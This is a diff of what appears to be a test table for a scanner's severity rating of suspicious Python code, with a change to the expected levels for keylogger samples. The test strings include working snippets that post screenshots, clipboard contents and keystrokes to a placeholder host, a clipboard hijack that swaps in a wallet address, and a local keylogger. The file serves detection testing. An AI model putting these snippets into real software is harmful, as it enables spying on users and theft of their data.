@@ -38,7 +38,8 @@ def severity(trigger: str, source: str) -> str:
         ("call", "from PIL import ImageGrab\nrequests.post('" + _HOOK + "', files={'f': ImageGrab.grab()})", "high"),
         ("import", "import pyperclip\nrequests.post('https://h.example.invalid/', data=pyperclip.paste())", "high"),
         ("call", "import pyperclip\nif pyperclip.paste():\n    pyperclip.copy('0x" + "0" * 40 + "')", "high"),
-        ("call", "from pynput import keyboard\ndef press(key):\n    requests.post('https://h.example.invalid/', data=str(key))\nkeyboard.Listener(on_press=press).start()", "medium"),
+        ("call", "from pynput import keyboard\ndef press(key):\n    requests.post('https://h.example.invalid/', data=str(key))\nkeyboard.Listener(on_press=press).start()", "high"),
+        ("call", "from pynput import keyboard\ndef press(key):\n    open('log', 'a').write(str(key))\nkeyboard.Listener(on_press=press).start()", "info"),
         ("import", "from pynput import keyboard\ndef press(key):\n    open('log', 'a').write(str(key))\nkeyboard.Listener(on_press=press).start()", "medium"),
     ],
 )  # fmt: skip
